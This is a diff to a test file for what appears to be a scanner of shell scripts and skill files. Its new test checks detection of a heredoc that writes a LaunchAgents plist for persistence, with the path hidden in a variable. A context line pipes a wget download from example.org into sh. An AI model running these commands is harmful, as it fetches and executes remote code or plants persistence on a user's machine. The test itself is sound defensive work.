@@ -25,6 +25,19 @@ describe('lines no rule acts on', () => {
     assert.deepEqual(pipesOf(script('D=wget\n$D -qO- example.org/a.sh | sh')), [[3, 'medium']]);
   });
 
+  it('a line without any anchor is read again with the script’s variables', () => {
+    const persistenceOf = (body: string) =>
+      findingsOf(scan(script(body)), 'command.persistence').map((f) => [f.line, f.excerpt.includes('LaunchAgents')]);
+    // `cat > "$P"`: no word, mark or punctuation an anchor holds, until `$P` is the plist it names.
+    assert.deepEqual(persistenceOf('P="$HOME/Library/LaunchAgents/com.example.agent.plist"\ncat > "$P" << EOF\n<plist/>\nEOF'), [
+      [3, true],
+    ]);
+    assert.deepEqual(persistenceOf('P="$HOME/notes/com.example.agent.plist"\ncat > "$P" << EOF\n<plist/>\nEOF'), []);
+    // A Markdown code block keeps no variables: the same lines there are left alone.
+    const markdown = `${SKILL}\`\`\`bash\nP="$HOME/Library/LaunchAgents/a.plist"\ncat > "$P" << EOF\n\`\`\`\n`;
+    assert.deepEqual(findingsOf(scan({ 'SKILL.md': markdown }), 'command.persistence').length, 0);
+  });
+
   it('an assignment on a long line that only holds marks is still read', () => {
     const long = `D=cu # ${'x '.repeat(300)}data`;
     assert.ok(long.length > 512);
